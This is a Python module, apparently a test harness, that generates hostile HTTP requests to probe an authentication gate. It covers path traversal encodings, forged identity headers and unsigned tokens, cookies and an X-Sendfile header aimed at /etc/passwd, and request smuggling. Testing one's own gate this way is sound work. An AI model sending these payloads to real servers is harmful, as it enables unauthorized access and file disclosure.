"""Hostile ways to ask for a file: one list for paths, one for headers.

Enters: the URL of a file. Leaves: request targets to send as they stand, and header sets. Sources: OWASP Web Security
Testing Guide (path traversal, HTTP verb tampering, host header), and published advisories on the modules in use.
"""

from __future__ import annotations

from urllib.parse import unquote

from client import Headers

OPEN = "/preview/"  # an address that anybody may read


def _double(path: str) -> str:
    return path.replace("%", "%25") if "%" in path else path.replace("/", "/%2e/", 1).replace("%", "%25")


def _hex(path: str) -> str:
    return (
        "/" + "".join(char if char in "/%" else f"%{ord(char):02x}" for char in path[1:]) if "%" not in path else path
    )


def paths(url: str, base: str) -> dict[str, str]:
    """Request targets that a careless server might take for `url`, by the name of the trick."""
    head, _, name = url.rpartition("/")
    folder = head + "/"
    decoded = unquote(url).encode("utf-8").decode("latin-1").replace(" ", "%20")
    return {
        "as it is": url,
        "folder": folder,
        "folder without slash": head or "/",
        "dot segment": f"/.{url}",
        "dot segment inside": f"{folder}./{name}",
        "up from the preview": f"{OPEN}..{url}",
        "up twice": f"{OPEN}es/../..{url}",
        "up from sign-in": f"/signin/..{url}",
        "up from errors": f"/_gate/errors/..{url}",
        "up too far": f"/../../../..{url}",
        "up and down": f"{folder}x/../{name}",
        "encoded up": f"{OPEN}%2e%2e{url}",
        "encoded dot": f"{OPEN}.%2e{url}",
        "encoded slash": f"{OPEN}..%2f{url[1:]}",
        "encoded slash, capital": f"{OPEN}..%2F{url[1:]}",
        "encoded slash inside": f"{head}%2f{name}",
        "all slashes encoded": url.replace("/", "%2f"),
        "encoded backslash": f"{OPEN}..%5c{url[1:]}",
        "backslash": f"{OPEN}..\\{url[1:]}",
        "backslashes": url.replace("/", "\\"),
        "double encoded up": f"{OPEN}%252e%252e{url}",
        "double encoded slash": f"{OPEN}..%252f{url[1:]}",
        "double encoded": _double(url),
        "every letter encoded": _hex(url),
        "overlong dot": f"{OPEN}%c0%ae%c0%ae{url}",
        "overlong slash": f"{OPEN}..%c0%af{url[1:]}",
        "fullwidth dots": f"{OPEN}%ef%bc%8e%ef%bc%8e{url}",
        "unicode escape": f"{OPEN}%u002e%u002e{url}",
        "double slash": f"/{url}",
        "double slash inside": f"{head}//{name}",
        "slash dot slash": f"{head}/.//{name}",
        "trailing slash": f"{url}/",
        "trailing double slash": f"{url}//",
        "trailing dot": f"{url}.",
        "trailing space": f"{url}%20",
        "trailing nothing": f"{url}%00",
        "nothing, then public": f"{url}%00.css",
        "nothing in front": f"{OPEN}%00/..{url}",
        "new line": f"{url}%0a",
        "return": f"{url}%0d%0aX-Injected:%20yes",
        "parameter": f"{url};x=1",
        "parameter in folder": f"{head};x=1/{name}",
        "parameter up": f"{OPEN}..;{url}",
        "parameter dots": f"{OPEN}..;x=1{url}",
        "data stream": f"{url}::$DATA",
        "short name": f"{folder}{name[:6].upper()}~1",
        "path after file": f"{url}/index.html",
        "style after file": f"{url}/x.css",
        "capital letters": url.upper(),
        "capital first": f"/{url[1:2].upper()}{url[2:]}",
        "query of the preview": f"{url}?{OPEN}",
        "query of sign-in": f"{url}?/signin/",
        "query with up": f"{OPEN}?/..{url}",
        "question encoded": f"{url}%3f{OPEN}",
        "fragment": f"{url}#{OPEN}",
        "fragment encoded": f"{url}%23{OPEN}",
        "below robots": f"/robots.txt{url}",
        "up from robots": f"/robots.txt/..{url}",
        "below favicon": f"/favicon.svg{url}",
        "below the callback": f"/_gate/callback{url}",
        "up from the callback": f"/_gate/callback/..{url}",
        "callback with a path": f"/_gate/callback?target_link_uri={url}",
        "below errors": f"/_gate/errors{url}",
        "below preview": f"{OPEN[:-1]}{url}",
        "preview as a prefix": f"/preview-internal/..{url}",
        "preview and more": f"/previewx/..{url}",
        "below signed out": f"/signin/signed-out.html/..{url}",
        "absolute": f"{base}{url}",
        "absolute elsewhere": f"http://unknown.invalid{url}",
        "absolute with account": f"http://preview@{base.partition('://')[2]}{url}",
        "absolute file": f"file://{url}",
        "no leading slash": url[1:],
        "star": "*",
        "brotli copy": f"{url}.br",
        "gzip copy": f"{url}.gz",
        "backup": f"{url}~",
        "variant": f"{url}.html",
        "raw bytes": decoded,
        "home folder": f"/~www-data{url}",
        "icons": f"/icons/..{url}",
        "well known": f"/.well-known/security.txt/..{url}",
        "well known up": f"/.well-known/../{url[1:]}",
        "disk": f"/proc/self/cwd{url}",
    }


FORGERIES: dict[str, Headers] = {
    "user from a proxy": (("X-Remote-User", "member"), ("Remote-User", "member"), ("X-Forwarded-User", "member")),
    "claims": (("OIDC_CLAIM_sub", "member"), ("OIDC_CLAIM_groups", "membership/member")),
    "claims with dashes": (("OIDC-CLAIM-sub", "member"), ("OIDC-CLAIM-groups", "membership/member")),
    "groups": (("X-Forwarded-Groups", "membership/member"), ("X-Auth-Request-Groups", "membership/member")),
    "host": (("X-Forwarded-Host", "unknown.invalid"), ("Forwarded", "host=unknown.invalid;proto=https")),
    "address": (("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("True-Client-IP", "127.0.0.1")),
    "public address": (("X-Original-URL", OPEN), ("X-Rewrite-URL", OPEN), ("X-Forwarded-Uri", OPEN)),
    "public prefix": (("X-Forwarded-Prefix", OPEN), ("X-Forwarded-Path", OPEN)),
    "other method": (("X-HTTP-Method-Override", "OPTIONS"), ("X-Method-Override", "HEAD")),
    "bearer": (("Authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZW1iZXIifQ."),),
    "basic": (("Authorization", "Basic bWVtYmVyOm1lbWJlcg=="),),
    "client certificate": (("X-SSL-Client-Verify", "SUCCESS"), ("SSL_CLIENT_VERIFY", "SUCCESS")),
    "azure": (("X-MS-CLIENT-PRINCIPAL", "eyJ1c2VyUm9sZXMiOlsibWVtYmVyIl19"), ("X-MS-CLIENT-PRINCIPAL-NAME", "member")),
    "cloudflare": (("Cf-Access-Authenticated-User-Email", "member@example.org"), ("Cf-Access-Jwt-Assertion", "x.y.z")),
    "hop by hop": (("Connection", "close, Cookie, X-Forwarded-For"),),
    "internal redirect": (("X-Accel-Redirect", OPEN), ("X-Sendfile", "/etc/passwd")),
    "redirect memory": (("REDIRECT_STATUS", "200"), ("REDIRECT_REMOTE_USER", "member"), ("REDIRECT-STATUS", "200")),
    "search robot": (("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1)"),),
    "range": (("Range", "bytes=0-99"),),
    "ranges": (("Range", "bytes=0-9,20-29,-5"),),
    "cached": (("If-None-Match", "*"),),
    "cached since": (("If-Modified-Since", "Fri, 01 Jan 2038 00:00:00 GMT"),),
    "if match": (("If-Match", "*"), ("If-Range", '"x"')),
    "upgrade": (("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")),
    "websocket": (
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Key", "x3JJHMbDL1EzLkh9GBhXDw=="),
    ),
    "negotiation": (("Accept", "text/html"), ("Negotiate", "trans"), ("Accept-Encoding", "identity;q=0, br, *;q=0")),
    "other site": (("Origin", "https://unknown.invalid"), ("Referer", "https://unknown.invalid/")),
}

COOKIES: dict[str, str] = {
    "any session": "gate=00000000-0000-0000-0000-000000000000; __Host-gate=00000000-0000-0000-0000-000000000000",
    "path as session": "gate=../../../../etc/passwd; __Host-gate=..%2f..%2fetc%2fpasswd",
    "empty session": "gate=; __Host-gate=",
    "twice": "gate=a; gate=b; __Host-gate=a; __Host-gate=b",
    "chunks": "gate_chunks=99999999; gate_0=x; gate_1=y; __Host-gate_chunks=99999999",
    "long": f"gate={'A' * 4000}; __Host-gate={'A' * 4000}",
    "made-up token": "gate=eyJhbGciOiJkaXIifQ..AAAA.BBBB.CCCC; __Host-gate=eyJhbGciOiJub25lIn0.e30.",
    "state": "mod_auth_openidc_state_x=%00%ff{]; mod_auth_openidc_state_=; mod_auth_openidc_session=member",
    "other software": "_oauth2_proxy=x; CF_Authorization=x.y.z; StaticWebAppsAuthCookie=x; AppServiceAuthSession=x",
    "names": "REMOTE_USER=member; OIDC_CLAIM_groups=membership/member; guide_lang=../../member/index",
}

METHODS = (
    "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "TRACK", "PROPFIND", "MOVE", "COPY", "LOCK",
    "MKCOL", "SEARCH", "REPORT", "CONNECT", "DEBUG", "PURGE", "QUERY", "get", "Get", "GETT", "MEMBER", "*",
)  # fmt: skip


def oddities(url: str, named: str) -> dict[str, bytes]:
    """Whole requests that bend the protocol while they ask for `url`; `named` is the right Host."""
    get = f"GET {url} HTTP/1.1\r\n".encode()
    host = f"Host: {named}\r\n".encode()
    return {
        "1.0 without host": f"GET {url} HTTP/1.0\r\n\r\n".encode(),
        "1.1 without host": get + b"Connection: close\r\n\r\n",
        "empty host": get + b"Host:\r\nConnection: close\r\n\r\n",
        "unknown host": get + b"Host: unknown.invalid\r\nConnection: close\r\n\r\n",
        "address as host": get + b"Host: 127.0.0.1\r\nConnection: close\r\n\r\n",
        "capital host": get + f"Host: {named.upper()}\r\nConnection: close\r\n\r\n".encode(),
        "host with dot": get + f"Host: {named.split(':')[0]}.\r\nConnection: close\r\n\r\n".encode(),
        "host with path": get + f"Host: {named}/preview/\r\nConnection: close\r\n\r\n".encode(),
        "two hosts": get + host + b"Host: unknown.invalid\r\nConnection: close\r\n\r\n",
        "absolute, other host": f"GET http://unknown.invalid{url} HTTP/1.1\r\n".encode()
        + host
        + b"Connection: close\r\n\r\n",
        "0.9": f"GET {url}\r\n".encode(),
        "2.0": f"GET {url} HTTP/2.0\r\n".encode() + host + b"Connection: close\r\n\r\n",
        "9.9": f"GET {url} HTTP/9.9\r\n".encode() + host + b"Connection: close\r\n\r\n",
        "no version": f"GET {url} HTTP/\r\n".encode() + host + b"\r\n",
        "bare line feeds": f"GET {url} HTTP/1.1\nHost: {named}\nConnection: close\n\n".encode(),
        "space in line": f"GET  {url}  HTTP/1.1\r\n".encode() + host + b"Connection: close\r\n\r\n",
        "tab in line": f"GET\t{url}\tHTTP/1.1\r\n".encode() + host + b"Connection: close\r\n\r\n",
        "nothing in line": f"GET {url}\0/preview/ HTTP/1.1\r\n".encode() + host + b"Connection: close\r\n\r\n",
        "folded header": get + host + b"X-Long: a\r\n  Cookie: gate=x\r\nConnection: close\r\n\r\n",
        "space before colon": get + host + b"Cookie : gate=x\r\nConnection: close\r\n\r\n",
        "nothing in header": get + host + b"Cookie: gate=\0x\r\nConnection: close\r\n\r\n",
        "many headers": get + host + b"".join(b"X-%d: y\r\n" % n for n in range(300)) + b"Connection: close\r\n\r\n",
        "long header": get + host + b"X-Long: " + b"a" * 20000 + b"\r\nConnection: close\r\n\r\n",
        "long line": f"GET {url}?{'a' * 10000} HTTP/1.1\r\n".encode() + host + b"Connection: close\r\n\r\n",
        "body on get": get + host + b"Content-Length: 5\r\nConnection: close\r\n\r\nhello",
        "two lengths": get + host + b"Content-Length: 5\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello!",
        "length and chunks": get
        + host
        + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
        "strange coding": get + host + b"Transfer-Encoding: xchunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
        "expect": get + host + b"Expect: 100-continue\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        "expect odd": get + host + b"Expect: member\r\nConnection: close\r\n\r\n",
        "smuggled": b"POST /preview/ HTTP/1.1\r\n"
        + host
        + b"Content-Length: 4\r\n\r\nG"
        + get
        + host
        + b"Connection: close\r\n\r\n",
        "pipelined": b"GET /preview/ HTTP/1.1\r\n" + host + b"\r\n" + get + host + b"Connection: close\r\n\r\n",
        "proxy line": f"PROXY TCP4 127.0.0.1 127.0.0.1 1 1\r\nGET {url} HTTP/1.1\r\n".encode() + host + b"\r\n",
        "h2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "tls to plain": b"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03" + b"\0" * 32 + b"\r\n\r\n",
        "connect": f"CONNECT {named} HTTP/1.1\r\n".encode() + host + b"Connection: close\r\n\r\n",
    }
